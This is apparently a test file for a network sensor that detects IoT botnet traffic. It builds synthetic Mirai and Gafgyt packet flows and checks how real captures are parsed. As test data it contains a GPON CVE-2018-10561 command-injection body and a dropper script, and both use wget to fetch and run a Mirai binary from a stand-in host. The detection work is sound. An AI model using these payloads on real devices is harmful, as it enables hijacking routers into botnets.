// The pipeline with its protocol rooms: frames built with test/gen/packets.ts (synthetic, written here to
// follow the published analyses cited per test) and real captures from ../shared/pcaps, compared with tshark.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { openCaptureFile } from '../../sensor/capture/file.js';
import type { Frame } from '../../sensor/capture/frame.js';
import type { WaakhondEvent } from '../../sensor/events.js';
import { Pipeline } from '../../sensor/pipeline.js';
import { checkRooms, ROOMS } from '../../sensor/protocols/registry.js';
import { HTTP_CLIENT_BUDGET, HTTP_QUEUE_DEPTH } from '../../sensor/protocols/http/room.js';
import { TCP_TEXT_SEGMENTS } from '../../sensor/protocols/tcp/room.js';
import { TFTP_EXCHANGES } from '../../sensor/protocols/tftp/room.js';
import { concat, TCP, tcpFrame, text, udpFrame } from '../gen/packets.js';
import { describeShared, pcap } from '../helpers/shared.js';

const BOT_MAC = 'b8:27:eb:00:00:01';
const GW_MAC = 'e0:28:6d:0c:1a:2b';
const BOT = '192.168.1.50';
const SRV = '198.51.100.7';

type Ev<T extends WaakhondEvent['type']> = Extract<WaakhondEvent, { type: T }>;
function ofType<T extends WaakhondEvent['type']>(all: WaakhondEvent[], type: T): Ev<T>[] {
  return all.filter((e) => e.type === type) as Ev<T>[];
}

/** Runs frames through a fresh pipeline. */
function run(frames: Uint8Array[], opts: { maxFlows?: number } = {}): { all: WaakhondEvent[]; pipeline: Pipeline } {
  const all: WaakhondEvent[] = [];
  const pipeline = new Pipeline({ sinks: [(e) => all.push(e)], maxFlows: opts.maxFlows });
  let ts = Date.UTC(2026, 0, 1) * 1000;
  pipeline.push(frames.map((data): Frame => ({ ts: ts += 1000, len: data.length, data, linktype: 1, iface: 0 })));
  pipeline.finish();
  return { all, pipeline };
}

/** One TCP connection from the bot (client) to a server: handshake, then segments either way with running sequence numbers. */
class Conn {
  readonly frames: Uint8Array[] = [];
  private cseq = 1000;
  private sseq = 5000;
  constructor(readonly sport: number, readonly dport: number, readonly client = BOT, readonly server = SRV) {
    this.frames.push(
      tcpFrame(BOT_MAC, GW_MAC, client, server, { sport, dport, seq: this.cseq++, flags: TCP.SYN }),
      tcpFrame(GW_MAC, BOT_MAC, server, client, { sport: dport, dport: sport, seq: this.sseq++, ack: this.cseq, flags: TCP.SYN | TCP.ACK }),
      tcpFrame(BOT_MAC, GW_MAC, client, server, { sport, dport, seq: this.cseq, ack: this.sseq, flags: TCP.ACK }),
    );
  }
  c(payload: Uint8Array): this {
    this.frames.push(tcpFrame(BOT_MAC, GW_MAC, this.client, this.server, { sport: this.sport, dport: this.dport, seq: this.cseq, ack: this.sseq, flags: TCP.ACK | TCP.PSH }, payload));
    this.cseq += payload.length;
    return this;
  }
  s(payload: Uint8Array): this {
    this.frames.push(tcpFrame(GW_MAC, BOT_MAC, this.server, this.client, { sport: this.dport, dport: this.sport, seq: this.sseq, ack: this.cseq, flags: TCP.ACK | TCP.PSH }, payload));
    this.sseq += payload.length;
    return this;
  }
  /** A payload from the server cut into segments of at most mss bytes. */
  sSegments(payload: Uint8Array, mss: number): this {
    for (let i = 0; i < payload.length; i += mss) this.s(payload.subarray(i, i + mss));
    return this;
  }
}

/** An ELF file of a class, byte order and machine (header per the System V ABI), padded with code-like bytes to size. */
function elfFile(bits: 32 | 64, endian: 'little' | 'big', machine: number, size: number): Uint8Array {
  const b = new Uint8Array(size);
  for (let i = 0; i < size; i++) b[i] = (i * 131 + 7) & 255;
  b.set([0x7f, 0x45, 0x4c, 0x46, bits === 32 ? 1 : 2, endian === 'little' ? 1 : 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  if (endian === 'little') { b[16] = 2; b[17] = 0; b[18] = machine & 255; b[19] = machine >> 8; } else { b[16] = 0; b[17] = 2; b[18] = machine >> 8; b[19] = machine & 255; }
  return b;
}

const get = (uri: string): Uint8Array => text(`GET ${uri} HTTP/1.1\r\nHost: ${SRV}\r\nUser-Agent: Wget\r\nConnection: keep-alive\r\n\r\n`);
const ok = (body: Uint8Array, type = 'application/octet-stream'): Uint8Array =>
  concat(text(`HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n`), body);
const okHead = (len: number): Uint8Array => text(`HTTP/1.1 200 OK\r\nContent-Length: ${len}\r\n\r\n`);

describe('rooms: the registry', () => {
  it('the shipped room list is valid', () => expect(checkRooms(ROOMS)).toEqual([]));
  it('refuses a port in two rooms, duplicate names, no or two fallbacks, rooms without events', () => {
    const tcpRoom = ROOMS.find((r) => r.name === 'tcp')!;
    const dns = ROOMS.find((r) => r.name === 'dns')!;
    expect(checkRooms([...ROOMS, { ...dns, name: 'dns2' }]).join('\n')).toMatch(/port 53 is in rooms dns and dns2/);
    expect(checkRooms([...ROOMS, dns]).join('\n')).toMatch(/room dns listed twice/);
    expect(checkRooms(ROOMS.filter((r) => r !== tcpRoom)).join('\n')).toMatch(/0 TCP fallback rooms/);
    expect(checkRooms([...ROOMS, { ...tcpRoom, name: 'tcp2' }]).join('\n')).toMatch(/2 TCP fallback rooms/);
    expect(checkRooms([...ROOMS, { name: 'x', events: [], udp: { ports: [9], firstSpeaker: 'client', create: dns.udp!.create } }]).join('\n')).toMatch(/makes no events/);
  });
  it('every event a room makes is declared in its descriptor (checked on the traffic of this file)', () => {
    const declared = new Set(ROOMS.flatMap((r) => r.events));
    for (const t of ['http_request', 'http_response', 'file_transfer', 'tcp_text', 'bt_dht', 'tftp', 'ftp', 'dns', 'tls_client_hello', 'telnet_data']) expect(declared.has(t as never)).toBe(true);
  });
});

describe('rooms: HTTP on every request of a keep-alive connection', () => {
  // The Mirai case: one kept-open connection fetches a whole bins folder. Here 5 ELF builds of
  // different architectures, framed the three ways a server writes them: head and body start in one
  // segment, head alone then the body, and a small response's tail sharing a segment with the next head.
  const files: [string, Uint8Array, string, 32 | 64, 'little' | 'big'][] = [
    ['/bins/mirai.arm7', elfFile(32, 'little', 40, 3000), 'arm', 32, 'little'],
    ['/bins/mirai.mips', elfFile(32, 'big', 8, 2000), 'mips', 32, 'big'],
    ['/bins/mirai.x86_64', elfFile(64, 'little', 62, 500), 'x86_64', 64, 'little'],
    ['/bins/mirai.ppc', elfFile(32, 'big', 20, 700), 'powerpc', 32, 'big'],
    ['/bins/mirai.sh4', elfFile(32, 'little', 42, 4000), 'sh', 32, 'little'],
  ];
  function conversation(port: number): Conn {
    const c = new Conn(40000, port);
    c.c(get(files[0][0])).sSegments(ok(files[0][1]), 1448); // head + body start, body over 3 segments
    c.c(get(files[1][0])).s(okHead(files[1][1].length)).sSegments(files[1][1], 1448); // head alone, then the body
    // Pipelined: two requests in one segment; both small responses back to back in one segment.
    c.c(concat(get(files[2][0]), get(files[3][0]))).s(concat(ok(files[2][1]), ok(files[3][1])));
    c.c(get(files[4][0])).sSegments(ok(files[4][1]), 536);
    return c;
  }
  for (const port of [80, 8081]) {
    it(`5 ELF files over one connection on port ${port}: 5 requests, 5 responses, 5 file_transfer with the right arch and uri`, () => {
      const { all, pipeline } = run(conversation(port).frames);
      const req = ofType(all, 'http_request');
      expect(req.map((r) => r.uri)).toEqual(files.map((f) => f[0]));
      expect(ofType(all, 'http_response')).toHaveLength(5);
      const ft = ofType(all, 'file_transfer');
      expect(ft).toHaveLength(5);
      ft.forEach((e, i) => {
        expect(e).toMatchObject({
          protocol: 'http', receiver: 'client', file_type: 'elf', uri: files[i][0], host: SRV, content_type: i === 1 ? null : 'application/octet-stream',
          elf_arch: files[i][2], elf_bits: files[i][3], elf_endian: files[i][4],
          src_ip: BOT, dst_ip: SRV, src_port: 40000, dst_port: port, direction: 'outbound', src_mac: BOT_MAC,
        });
      });
      expect(ofType(all, 'tcp_text')).toHaveLength(0); // claimed by HTTP: no raw text events
      expect(pipeline.stats.internal_errors).toBe(0);
      expect(pipeline.rooms.held()).toMatchObject({ http: 0 });
    });
  }
  it('pipelined downloads cut at arbitrary segment sizes: the next head is found inside the segment that ends a body', () => {
    for (const mss of [100, 536, 999, 1448, 4000]) {
      const c = new Conn(40004, 80).c(concat(get(files[0][0]), get(files[1][0]), get(files[4][0])));
      c.sSegments(concat(ok(files[0][1]), ok(files[1][1]), ok(files[4][1])), mss);
      const { all } = run(c.frames);
      expect(ofType(all, 'http_response')).toHaveLength(3);
      expect(ofType(all, 'file_transfer').map((e) => [e.uri, e.elf_arch])).toEqual([0, 1, 4].map((i) => [files[i][0], files[i][2]]));
    }
  });
  it('a request head cut anywhere by segment ends is read whole (some clients write "POST " alone)', () => {
    const req = text(`POST /HNAP1/ HTTP/1.1\r\nHost: 10.0.0.1\r\nUser-Agent: ksoap\r\nContent-Length: 4\r\n\r\nabcd`);
    for (const cut of [5, 12, 25, 40, req.length - 4]) {
      const c = new Conn(40006, 80).c(req.subarray(0, cut)).c(req.subarray(cut));
      const r = ofType(run(c.frames).all, 'http_request');
      expect(r).toHaveLength(1);
      // The body is reported only when it shares the head's segment (the last cut leaves it to the next one).
      expect(r[0]).toMatchObject({ method: 'POST', uri: '/HNAP1/', host: '10.0.0.1', user_agent: 'ksoap', body: cut === req.length - 4 ? null : 'abcd' });
    }
  });
  it('a gzip Content-Encoding of a web page is not an archive download', () => {
    const gz = Uint8Array.of(0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3, 4);
    const c = new Conn(40007, 80).c(get('/index.html'))
      .s(concat(text(`HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: gzip\r\nContent-Length: ${gz.length}\r\n\r\n`), gz))
      .c(get('/fw.tgz')).s(concat(text(`HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: ${gz.length}\r\n\r\n`), gz));
    expect(ofType(run(c.frames).all, 'file_transfer').map((e) => [e.uri, e.file_type])).toEqual([['/fw.tgz', 'archive']]);
  });
  it('a chunked response: the chunk size line is not the file', () => {
    const elfBody = elfFile(32, 'big', 8, 300);
    const c = new Conn(40005, 80).c(get('/bins/x.mips')).s(concat(
      text(`HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n${elfBody.length.toString(16)}\r\n`), elfBody, text('\r\n0\r\n\r\n')));
    expect(ofType(run(c.frames).all, 'file_transfer')).toEqual([expect.objectContaining({ file_type: 'elf', elf_arch: 'mips', uri: '/bins/x.mips' })]);
  });
  it('a request body in the same segment is the event\'s body (GPON-style POST exploit)', () => {
    // The GPON CVE-2018-10561 request Mirai variants send (Check Point / 360 Netlab analyses, May 2018).
    const body = 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.7/bins/mirai.mips+-O+/tmp/gaf;sh+/tmp/gaf`&ipv=0';
    const c = new Conn(40001, 8080).c(text(`POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nContent-Length: ${body.length}\r\n\r\n${body}`));
    const r = ofType(run(c.frames).all, 'http_request');
    expect(r).toHaveLength(1);
    expect(r[0].body).toBe(body);
  });
  it('a HEAD response and a 304 have no body: no file_transfer', () => {
    const c = new Conn(40002, 80).c(text(`HEAD /x HTTP/1.1\r\nHost: a\r\n\r\n`)).s(text('HTTP/1.1 200 OK\r\nContent-Length: 4000\r\n\r\n'))
      .c(get('/y')).s(text('HTTP/1.1 304 Not Modified\r\n\r\n')).c(get('/z')).s(ok(elfFile(32, 'little', 40, 100)));
    const { all } = run(c.frames);
    expect(ofType(all, 'http_response')).toHaveLength(3);
    expect(ofType(all, 'file_transfer').map((e) => e.uri)).toEqual(['/z']);
  });
  it('web pages are not file transfers; a dropper script served as text/plain is', () => {
    const c = new Conn(40003, 80).c(get('/')).s(ok(text('<html><body>hello</body></html>'), 'text/html'))
      .c(get('/bins.sh')).s(ok(text('#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7\n'), 'text/plain'));
    const ft = ofType(run(c.frames).all, 'file_transfer');
    expect(ft).toHaveLength(1);
    expect(ft[0]).toMatchObject({ uri: '/bins.sh', file_type: 'script', script_commands: ['cd', 'wget', 'chmod'] });
  });
});

describe('rooms: HTTP state is bounded', () => {
  it(`requests beyond the ${HTTP_CLIENT_BUDGET}-byte client budget are not parsed, and the flow is then left alone`, () => {
    const c = new Conn(40010, 80);
    const one = get('/a/quite/long/path/to/make/each/request/about/one/hundred/and/fifty/bytes');
    const n = Math.ceil((2 * HTTP_CLIENT_BUDGET) / one.length);
    for (let i = 0; i < n; i++) c.c(one).s(ok(text('x'), 'text/plain'));
    const { all } = run(c.frames);
    const req = ofType(all, 'http_request').length;
    expect(req).toBe(Math.ceil(HTTP_CLIENT_BUDGET / one.length));
    expect(req).toBeLessThan(n);
  });
  it(`at most ${HTTP_QUEUE_DEPTH} requests per flow wait for their response; later files carry no uri`, () => {
    const c = new Conn(40011, 80);
    for (let i = 0; i < 40; i++) c.c(get(`/f${i}`));
    for (let i = 0; i < 40; i++) c.s(ok(elfFile(32, 'little', 40, 64)));
    const ft = ofType(run(c.frames).all, 'file_transfer');
    expect(ft).toHaveLength(40);
    expect(ft.filter((e) => e.uri !== null).map((e) => e.uri)).toEqual(Array.from({ length: HTTP_QUEUE_DEPTH }, (_, i) => `/f${i}`));
  });
  it('many flows with unanswered requests and a small flow table: state follows the flow table and ends with the capture', () => {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < 3000; i++) frames.push(...new Conn(10000 + i, 80, BOT, `203.0.113.${i % 200}`).c(get('/x')).frames);
    const all: WaakhondEvent[] = [];
    const pipeline = new Pipeline({ sinks: [(e) => all.push(e)], maxFlows: 64 });
    let ts = Date.UTC(2026, 0, 1) * 1000;
    pipeline.push(frames.map((data): Frame => ({ ts: ts += 10, len: data.length, data, linktype: 1, iface: 0 })));
    expect(pipeline.rooms.held().http).toBeLessThanOrEqual(64);
    pipeline.finish();
    expect(pipeline.rooms.held().http).toBe(0);
    expect(ofType(all, 'http_request')).toHaveLength(3000);
  });
});

describe('rooms: raw TCP (no parser claimed the flow)', () => {
  it('a binary flow on an odd port gives no tcp_text and no file_transfer, and is left alone after a few segments', () => {
    const c = new Conn(40020, 4444);
    const bin = (k: number): Uint8Array => Uint8Array.from({ length: 700 }, (_, i) => (i * 73 + k * 11 + 1) & 255);
    for (let k = 0; k < 30; k++) { c.c(bin(k)); c.s(bin(k + 100)); }
    const { all, pipeline } = run(c.frames);
    expect(ofType(all, 'tcp_text')).toHaveLength(0);
    expect(ofType(all, 'file_transfer')).toHaveLength(0);
    expect(pipeline.stats.internal_errors).toBe(0);
  });
  it('a Gafgyt-style text C2 on a non-standard port: tcp_text both ways, from the first segments only', () => {
    // Bashlite/Gafgyt: the bot connects to its C2 and reads text command lines in a loop ("!* SCANNER ON", the
    // leaked source's "!*" prefix; PING answered PONG), as issue #11's capture shows and as described in
    // "Extracting IoCs for Gafgyt" (its C2 loop and register message: https://archive.orkl.eu/f7dec0767e7b20e7b720801fcf5e9c2e17b65574.txt). Synthetic.
    const c = new Conn(40021, 666).s(text('!* SCANNER ON\r\n')).c(text('PONG\r\n'));
    for (let i = 0; i < 20; i++) c.s(text('PING\r\n')).c(text('PONG\r\n'));
    const t = ofType(run(c.frames).all, 'tcp_text');
    expect(t[0]).toMatchObject({ from: 'server', text: '!* SCANNER ON\n', irc_commands: [], dst_port: 40021, src_port: 666 });
    expect(t.filter((e) => e.from === 'server')).toHaveLength(TCP_TEXT_SEGMENTS);
    expect(t.filter((e) => e.from === 'client')).toHaveLength(TCP_TEXT_SEGMENTS);
    expect(t.filter((e) => e.from === 'client').every((e) => e.irc_commands.join() === 'PONG')).toBe(true);
  });
  it('an ELF pushed by a raw loader (Mirai loader style: no HTTP) is one file_transfer, receiver client', () => {
    const c = new Conn(40022, 31337).c(text('x')).sSegments(elfFile(32, 'little', 40, 9000), 1448);
    const ft = ofType(run(c.frames).all, 'file_transfer');
    expect(ft).toHaveLength(1);
    expect(ft[0]).toMatchObject({ protocol: 'tcp', receiver: 'client', elf_arch: 'arm', src_ip: BOT, dst_ip: SRV, src_port: 40022, dst_port: 31337 });
  });
  it('telnet (23) stays telnet_data; TLS and DNS are not raw text', () => {
    const c = new Conn(40023, 23).s(text('login: ')).c(text('root\r\n'));
    const { all } = run(c.frames);
    expect(ofType(all, 'telnet_data')).toHaveLength(2);
    expect(ofType(all, 'tcp_text')).toHaveLength(0);
  });
});

describe('rooms: TFTP follows the exchange to the server\'s new port', () => {
  // RFC 1350 4: the server answers an RRQ from a new port (its TID) to the client's port. Synthetic,
  // in the shape of a Mirai loader's "busybox tftp -g -r mirai.arm7".
  const rrq = concat(Uint8Array.of(0, 1), text('mirai.arm7'), Uint8Array.of(0), text('octet'), Uint8Array.of(0));
  const data1 = concat(Uint8Array.of(0, 3, 0, 1), elfFile(32, 'little', 40, 512));
  it('RRQ then DATA block 1 from another port: tftp + one file_transfer with the file name', () => {
    const { all } = run([
      udpFrame(BOT_MAC, GW_MAC, BOT, SRV, 50000, 69, rrq),
      udpFrame(GW_MAC, BOT_MAC, SRV, BOT, 3445, 50000, data1),
      udpFrame(GW_MAC, BOT_MAC, SRV, BOT, 3445, 50000, data1), // retransmission: no second event
    ]);
    expect(ofType(all, 'tftp')).toEqual([expect.objectContaining({ op: 'read', filename: 'mirai.arm7', mode: 'octet', src_ip: BOT, dst_port: 69 })]);
    expect(ofType(all, 'file_transfer')).toEqual([expect.objectContaining({
      protocol: 'tftp', receiver: 'client', uri: 'mirai.arm7', file_type: 'elf', elf_arch: 'arm', src_ip: BOT, src_port: 50000, dst_port: 3445,
    })]);
  });
  it(`at most ${TFTP_EXCHANGES} exchanges are followed; the oldest are dropped`, () => {
    const frames: Uint8Array[] = [];
    for (let i = 0; i < TFTP_EXCHANGES + 50; i++) frames.push(udpFrame(BOT_MAC, GW_MAC, BOT, SRV, 20000 + i, 69, rrq));
    frames.push(udpFrame(GW_MAC, BOT_MAC, SRV, BOT, 3445, 20000, data1)); // the first exchange: dropped
    frames.push(udpFrame(GW_MAC, BOT_MAC, SRV, BOT, 3446, 20000 + TFTP_EXCHANGES + 49, data1)); // the last: followed
    const { all, pipeline } = run(frames);
    expect(ofType(all, 'file_transfer').map((e) => e.src_port)).toEqual([20000 + TFTP_EXCHANGES + 49]);
    expect(pipeline.rooms.held().tftp).toBe(TFTP_EXCHANGES - 1);
    // The drops are counted and reported in sensor_stats.tables_full.
    expect(pipeline.rooms.dropped().tftp).toBe(50);
    expect(ofType(all, 'sensor_stats').at(-1)!.tables_full).toContain('room:tftp');
  });
});

describe('rooms: hostile segments', () => {
  it('random payloads on the rooms\' ports and others never raise an internal error, and state stays bounded', () => {
    const ports = [21, 23, 53, 80, 443, 666, 8080, 5353, 33333];
    fc.assert(fc.property(
      fc.array(fc.tuple(fc.constantFrom(...ports), fc.boolean(), fc.uint8Array({ minLength: 1, maxLength: 600 }), fc.constantFrom('', 'GET / HTTP/1.1\r\n', 'HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\n', '\x7fELF', 'd1:ad2:id20:', 'USER x\r\n')), { maxLength: 40 }),
      (segs) => {
        const conns = new Map<number, Conn>();
        const frames: Uint8Array[] = [];
        for (const [port, fromClient, bytes, prefix] of segs) {
          let c = conns.get(port);
          if (!c) { c = new Conn(30000 + port, port); conns.set(port, c); }
          const payload = concat(text(prefix), bytes);
          if (fromClient) c.c(payload); else c.s(payload);
          frames.push(udpFrame(BOT_MAC, GW_MAC, BOT, SRV, 30000 + port, port, payload));
        }
        for (const c of conns.values()) frames.push(...c.frames);
        const { all, pipeline } = run(frames);
        expect(pipeline.stats.internal_errors).toBe(0);
        for (const n of Object.values(pipeline.rooms.held())) expect(n).toBe(0); // all ended with the capture
        for (const e of all) if (e.type === 'tcp_text') expect(e.text.length).toBeLessThanOrEqual(512);
      }), { numRuns: 150 });
  });
});

describe('rooms: Edimax discovery on UDP 20560', () => {
  // The 22-byte probe the EdiPlug app broadcasts (the layout openHAB's Edimax binding sends), then a
  // reply cut to the fields before the name: both ends of port 20560 reach the room.
  const probe = concat(Uint8Array.of(0xff, 0xff, 0xff, 0xff, 0xff, 0xff), text('EDIMAX'), new Uint8Array(7), Uint8Array.of(0xa1, 0xff, 0x5e));
  const reply = concat(Uint8Array.of(0x74, 0xda, 0x38, 0, 0, 1), text('EDIMAX'), new Uint8Array(6), Uint8Array.of(1, 0xa1, 0xfe, 0x5e),
    text('SP1101W'), new Uint8Array(7), text('1.09'), new Uint8Array(4));
  it('probe to 20560 and reply from it are discovery events; random bytes on the port are not', () => {
    const { all } = run([
      udpFrame(BOT_MAC, 'ff:ff:ff:ff:ff:ff', BOT, '255.255.255.255', 40000, 20560, probe),
      udpFrame('74:da:38:00:00:01', BOT_MAC, '192.168.1.60', BOT, 20560, 40000, reply),
      udpFrame(BOT_MAC, GW_MAC, BOT, '192.168.1.60', 40001, 20560, text('hello there, not edimax')),
    ]);
    expect(ofType(all, 'discovery')).toEqual([
      expect.objectContaining({ protocol: 'edimax', kind: 'probe', src_ip: BOT, src_port: 40000, dst_port: 20560, vendor: 'EDIMAX', model: null, device_mac: null }),
      expect.objectContaining({ protocol: 'edimax', kind: 'reply', src_ip: '192.168.1.60', src_port: 20560, dst_port: 40000, vendor: 'EDIMAX',
        model: 'SP1101W', firmware: '1.09', name: null, device_mac: '74:da:38:00:00:01', direction: 'internal' }),
    ]);
  });
});

describeShared('rooms: real captures', () => {
  async function events(rel: string): Promise<WaakhondEvent[]> {
    const all: WaakhondEvent[] = [];
    const pipeline = new Pipeline({ sinks: [(e) => all.push(e)] });
    for await (const batch of openCaptureFile(pcap(rel))) pipeline.push(batch);
    pipeline.finish();
    expect(pipeline.stats.internal_errors).toBe(0);
    return all;
  }
  it('EdimaxPlug1101W Setup-C-2: the 20 replies from UDP 20560 (tshark -Y udp.port==20560) are discovery replies naming SP1101W', async () => {
    const d = ofType(await events('iot-sentinel/EdimaxPlug1101W/Setup-C-2-STA.pcap'), 'discovery');
    expect(d).toHaveLength(20);
    for (const e of d) {
      expect(e).toMatchObject({ protocol: 'edimax', kind: 'reply', src_mac: '74:da:38:4a:76:49', src_ip: '10.10.10.186', src_port: 20560,
        vendor: 'EDIMAX', model: 'SP1101W', firmware: '1.09', name: 'Plug4a7649', device_mac: '74:da:38:4a:76:49' });
    }
  });
  it('elf.pcap: the ELF sent over loopback TCP is one file_transfer (x86-64, 64-bit, little endian), receiver server', async () => {
    // tshark -r elf.pcap -Y 'frame.number==6' -e tcp.payload: 7f454c46 02 01 01 ... e_machine 3e00 (62)
    const ft = ofType(await events('ndpi/pcap/elf.pcap'), 'file_transfer');
    expect(ft).toEqual([expect.objectContaining({
      protocol: 'tcp', receiver: 'server', file_type: 'elf', elf_arch: 'x86_64', elf_bits: 64, elf_endian: 'little',
      src_port: 41150, dst_port: 33333,
    })]);
    expect(ft[0].head_hex.startsWith('7f454c4602010100000000000000000003003e0001000000')).toBe(true);
  });
  it('tftp.pcap: the 4 requests tshark names, and block 1 of the two transfers that have one', async () => {
    const all = await events('ndpi/pcap/tftp.pcap');
    // tshark -Y 'tftp.opcode==1||tftp.opcode==2': 6 requests, 2 of them without a file name (frames 1, 2).
    expect(ofType(all, 'tftp').map((e) => `${e.op} ${e.filename} ${e.mode}`)).toEqual([
      'read rfc1350.txt octet', 'read sysman.lis octet', 'write zz.bin netascii', 'write empty100KB octet',
    ]);
    // tshark -Y 'tftp.opcode==3 && tftp.block==1': frame 4 (rfc1350.txt, server 3445 -> client 50618) and
    // frames 105/106 (zz.bin, the client's DATA to the server's 62058, sent twice).
    expect(ofType(all, 'file_transfer').map((e) => [e.uri, e.receiver, e.file_type, e.src_port, e.dst_port])).toEqual([
      ['rfc1350.txt', 'client', 'other', 50618, 3445], ['zz.bin', 'server', 'archive', 44618, 62058],
    ]);
  });
  it('ftp.pcap: the 16 client commands tshark shows on the control connection, PASS hidden', async () => {
    const ftp = ofType(await events('ndpi/pcap/ftp.pcap'), 'ftp');
    // tshark -Y 'ftp.request && tcp.dstport == 21' -T fields -e ftp.request.command
    expect(ftp.map((e) => e.command)).toEqual(['USER', 'PASS', 'PWD', 'FEAT', 'HELP', 'CLNT', 'PWD', 'PASV', 'LIST', 'TYPE', 'MLST', 'SIZE', 'MDTM', 'PASV', 'RETR', 'QUIT']);
    expect(ftp[1].arg).toBe('***');
    expect(JSON.stringify(ftp)).not.toContain('NcFTP@');
  });
  it('irc.pcap: the bot-style login on port 8000 is tcp_text with NICK, USER, MODE and JOIN', async () => {
    const t = ofType(await events('ndpi/pcap/irc.pcap'), 'tcp_text');
    const client = t.filter((e) => e.from === 'client').flatMap((e) => e.irc_commands);
    // tshark -d tcp.port==8000,irc -Y 'irc.request': USER, NICK, USERHOST, MODE + JOIN, ...
    expect(client.slice(0, 5)).toEqual(['USER', 'NICK', 'USERHOST', 'MODE', 'JOIN']);
    expect(t.every((e) => e.dst_port === 8000 || e.src_port === 8000)).toBe(true);
    expect(t.filter((e) => e.from === 'client').length).toBeLessThanOrEqual(TCP_TEXT_SEGMENTS);
  });
  it('D-LinkSiren Setup-C-1: the siren fetching its agent binary from S3 is one file_transfer of a MIPS ELF, paired with its request', async () => {
    const all = await events('iot-sentinel/D-LinkSiren/Setup-C-1-STA.pcap');
    // tshark -Y http.request: frames 25, 159, 216, 268 (the last one the firmware agent); -Y http.response:
    // frame 493 is "200 binary/octet-stream", Content-Length 196060.
    expect(ofType(all, 'http_request').map((e) => e.host)).toEqual(['wrpd.dlink.com', 'tzinfo.dch.dlink.com', 'api.dch.dlink.com', 's3-us-west-2.amazonaws.com']);
    const ft = ofType(all, 'file_transfer');
    expect(ft).toEqual([expect.objectContaining({
      protocol: 'http', receiver: 'client', file_type: 'elf', elf_arch: 'mips', elf_bits: 32, host: 's3-us-west-2.amazonaws.com',
      uri: '/static-us-west.dch.dlink.com/firmware/agent/DCH-S220/D-Link-DCH-S220-1.7.5-AX', content_type: 'binary/octet-stream', src_ip: '10.10.10.39',
    })]);
  });
  it('bittorrent_utp.pcap: the 3 DHT get_peers queries tshark\'s BT-DHT heuristic finds', async () => {
    const d = ofType(await events('ndpi/pcap/bittorrent_utp.pcap'), 'bt_dht');
    // tshark --enable-heuristic bittorrent_dht_udp -Y bt-dht: frames 1, 2, 13, one flow 64969 -> 40959
    expect(d).toHaveLength(3);
    expect(d.every((e) => e.kind === 'query' && e.method === 'get_peers' && e.node_id === 'f7f6007cea13506e514de7ecbc94f2ae517115f8')).toBe(true);
  });
});
